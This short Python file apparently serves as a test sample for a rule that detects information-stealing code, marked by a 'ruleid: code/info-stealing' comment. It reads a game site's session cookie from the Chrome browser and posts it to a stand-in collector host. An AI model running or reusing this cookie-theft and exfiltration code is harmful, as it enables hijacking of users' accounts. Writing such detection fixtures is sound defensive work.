import browser_cookie3
import requests

COLLECT = "https://collector.example.test/c"


def grab():
    try:
        # ruleid: code/info-stealing
        jar = browser_cookie3.chrome(domain_name="game.example.test")
    except Exception:
        return None
    for cookie in jar:
        if cookie.name == ".SESSION":
            return cookie.value
    return None


requests.post(COLLECT, data={"c": grab()})
